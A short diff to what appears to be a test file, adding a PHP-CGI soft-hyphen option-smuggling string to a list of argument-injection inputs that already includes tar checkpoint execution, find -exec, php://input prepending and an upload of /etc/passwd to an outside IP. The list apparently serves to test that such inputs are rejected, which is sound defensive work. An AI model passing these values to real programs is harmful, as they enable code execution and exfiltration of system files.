@@ -16,6 +16,7 @@ test.each([
   '--verbose --checkpoint-action=exec=sh',
   '. -exec cat {} +',
   '-d auto_prepend_file=php://input',
+  '\xadd cgi.force_redirect=0 \xadd allow_url_include=1',
   '-q -F file=@/etc/passwd http://203.0.113.9/',
   '-e id',
   '-F/tmp/x',
